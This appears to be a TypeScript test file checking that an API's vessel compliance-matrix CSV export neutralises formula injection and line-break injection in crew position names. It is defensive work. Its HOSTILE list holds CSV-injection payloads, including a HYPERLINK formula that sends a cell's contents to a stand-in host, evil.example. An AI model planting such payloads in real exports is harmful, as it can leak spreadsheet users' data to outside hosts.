import assert from 'node:assert/strict';
import { before, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { issuePartnerKey } from '../../src/services/api-keys.ts';
import { describeEachWorld, NOW, worldFixture } from '../support/read-api-world.ts';

const MATRIX = '/api/v2/employers/me/vessels/ves_a1/compliance-matrix';

/** Position names an employer might hold, each one a way to break a spreadsheet open. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  '+1+2',
  '-1+2',
  '@SUM(A1:A9)',
  '\t=1+2',
  '\r=1+2',
  'Chief\rOfficer',
  'Chief\nOfficer',
  'Chief\r\nOfficer',
  'Master, "Senior"',
  '\uff1d1+2',
  'Second Officer',
];
const crewId = (i: number) => `crew_p${String(i).padStart(2, '0')}`;

/** The world's data set, with one consenting crew member on ves_a1 per hostile position name. */
function fixture(): Record<string, unknown> {
  const world = worldFixture() as Record<string, any[]>;
  return {
    ...world,
    crew: [...world.crew!, ...HOSTILE.map((_, i) => ({ crew_unique_id: crewId(i), name: `Crew ${i}` }))],
    assignments: [
      ...world.assignments!,
      ...HOSTILE.map((position, i) => ({
        crew_unique_id: crewId(i),
        vessel_id: 'ves_a1',
        role: 'master',
        position_name: position,
        status: 'active',
        as_of: '2026-10-01T00:00:00Z',
      })),
    ],
    consents: [
      ...world.consents!,
      ...HOSTILE.map((_, i) => ({ crew_unique_id: crewId(i), partner_id: 'ptn_full', categories: ['compliance'] })),
    ],
  };
}

/** What makes a spreadsheet read a cell as a formula: its first character (OWASP, "CSV Injection"). */
const FORMULA_START = new Set(['=', '+', '-', '@', '\t', '\r', '\uff1d', '\uff0b', '\uff0d', '\uff20']);

/**
 * Reads CSV as a spreadsheet does: a quoted field runs to its closing quote (`""` is a quote), and
 * outside quotes a comma ends a cell and any CR, LF or CRLF ends a row.
 */
function spreadsheetRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' || char === '\n') {
      if (char === '\r' && text[i + 1] === '\n') i++;
      rows.push([...row, cell]);
      row = [];
      cell = '';
    } else cell += char;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

describeEachWorld('the vessel compliance matrix as CSV, opened in a spreadsheet', { catalogue: true, fixture: fixture() }, (w) => {
  let key: string;
  before(async () => {
    key = (await issuePartnerKey(w.db, 'ptn_full', 'live', () => NOW)).key;
  });

  it('parses back to one record per row; a formula-leading position name gains a leading apostrophe, nothing else changes', async () => {
    const json = (await w.api.get(MATRIX, { key })).json;
    const res = await w.api.get(MATRIX, { key, headers: { Accept: 'text/csv' } });
    assert.equal(res.status, 200);
    const [header, ...records] = parse(res.bytes);
    assert.equal(header![1], 'position_name');
    assert.equal(records.length, json.rows.length);
    const positions = new Map(records.map((r) => [r[0], r[1]]));
    HOSTILE.forEach((position, i) => {
      const expected = FORMULA_START.has(position[0]!) ? `'${position}` : position;
      assert.equal(positions.get(crewId(i)), expected, JSON.stringify(position));
    });
  });

  it('a spreadsheet-style reader sees the same rows and cells, and no cell that starts a formula', async () => {
    const res = await w.api.get(MATRIX, { key, headers: { Accept: 'text/csv' } });
    const text = res.bytes.toString('utf8');
    const sheet = spreadsheetRows(text);
    assert.deepEqual(sheet, parse(res.bytes), 'every CR or LF outside quotes ends a record');
    for (const cell of sheet.flat()) assert.ok(!FORMULA_START.has(cell[0] ?? ''), `a formula cell: ${JSON.stringify(cell)}`);
  });
});
